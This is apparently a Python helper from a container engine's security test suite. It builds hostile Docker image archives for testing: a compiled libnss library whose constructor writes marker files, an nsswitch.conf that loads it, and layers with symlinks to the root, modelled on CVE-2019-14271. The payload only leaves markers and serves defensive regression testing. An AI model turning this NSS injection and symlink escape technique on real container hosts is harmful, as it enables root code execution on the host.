"""Hostile images for the attack tests: the test busybox image with one more layer on top
(a `docker save` archive for ``POST /images/load``), and a libnss that leaves a marker
wherever it is loaded (CVE-2019-14271: a root process doing name lookups inside a
container's root loads the container's NSS modules)."""

from __future__ import annotations

import hashlib
import io
import json
import shutil
import subprocess
import tarfile
import tempfile
from collections.abc import Iterable
from pathlib import Path

from tests.security.storage_helpers import busybox_image_tar

EVIL_NSS = r"""
#include <fcntl.h>
#include <unistd.h>
__attribute__((constructor)) static void loaded(void) {
    int fd = open("/NSS-MARKER", O_WRONLY | O_CREAT, 0644);
    if (fd >= 0) close(fd);
    fd = open("%s", O_WRONLY | O_CREAT, 0644);
    if (fd >= 0) close(fd);
}
"""
LIB_DIRS = (
    "lib",
    "lib64",
    "usr/lib",
    "lib/x86_64-linux-gnu",
    "usr/lib/x86_64-linux-gnu",
    "lib/aarch64-linux-gnu",
    "usr/lib/aarch64-linux-gnu",
)
CONTAINER_MARKER = "/NSS-MARKER"


def evil_libnss(host_marker: Path) -> bytes:
    """A shared object whose constructor creates ``/NSS-MARKER`` and ``host_marker``."""
    if shutil.which("gcc") is None:
        raise RuntimeError("gcc is needed to build the hostile libnss")
    with tempfile.TemporaryDirectory() as work:
        source = Path(work) / "evil.c"
        source.write_text(EVIL_NSS % host_marker)
        library = Path(work) / "libnss_evil.so.2"
        subprocess.run(["gcc", "-shared", "-fPIC", "-o", library, source], check=True)
        return library.read_bytes()


def add_member(
    tar: tarfile.TarFile,
    name: str,
    data: bytes | None = None,
    *,
    kind: bytes = tarfile.REGTYPE,
    link: str = "",
    mode: int = 0o644,
    uid: int = 0,
    pax: dict[str, str] | None = None,
) -> None:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.mode = mode
    info.uid = info.gid = uid
    info.linkname = link
    if pax:
        info.pax_headers = pax
    if data is not None:
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    else:
        tar.addfile(info)


def nss_layer(host_marker: Path) -> bytes:
    """A layer: ``/etc/nsswitch.conf`` naming the ``evil`` service, its library in every
    library directory, and symlinks to the root (``/evil -> /``, ``/up -> ../../..``)."""
    library = evil_libnss(host_marker)
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tar:
        add_member(tar, "etc/nsswitch.conf", b"passwd: evil\ngroup: evil\nhosts: evil\n")
        made: set[str] = set()
        for directory in LIB_DIRS:
            parts = directory.split("/")
            for depth in range(1, len(parts) + 1):
                prefix = "/".join(parts[:depth])
                if prefix not in made and prefix != "usr":
                    made.add(prefix)
                    add_member(tar, prefix, kind=tarfile.DIRTYPE, mode=0o755)
            add_member(tar, f"{directory}/libnss_evil.so.2", library, mode=0o755)
        add_member(tar, "data", kind=tarfile.DIRTYPE, mode=0o755)
        add_member(tar, "data/file", b"content", uid=1234)
        add_member(tar, "evil", kind=tarfile.SYMTYPE, link="/")
        add_member(tar, "up", kind=tarfile.SYMTYPE, link="../../../../../../..")
    return buffer.getvalue()


def image_with_layers(tag: str, layers: Iterable[bytes]) -> bytes:
    """A `docker save` archive of the test busybox image plus ``layers``, named ``tag``."""
    with tarfile.open(fileobj=io.BytesIO(busybox_image_tar())) as base:
        saved = {m.name: base.extractfile(m).read() for m in base if m.isfile()}  # type: ignore[union-attr]
    manifest = json.loads(saved["manifest.json"])[0]
    config = json.loads(saved[manifest["Config"]])
    files: dict[str, bytes] = {name: saved[name] for name in manifest["Layers"]}
    for layer in layers:
        digest = hashlib.sha256(layer).hexdigest()
        files[f"{digest}/layer.tar"] = layer
        manifest["Layers"].append(f"{digest}/layer.tar")
        config["rootfs"]["diff_ids"].append(f"sha256:{digest}")
    config_bytes = json.dumps(config).encode()
    config_name = f"{hashlib.sha256(config_bytes).hexdigest()}.json"
    files[config_name] = config_bytes
    entry = {"Config": config_name, "RepoTags": [tag], "Layers": manifest["Layers"]}
    files["manifest.json"] = json.dumps([entry]).encode()
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        for name, data in files.items():
            add_member(tar, name, data)
    return out.getvalue()
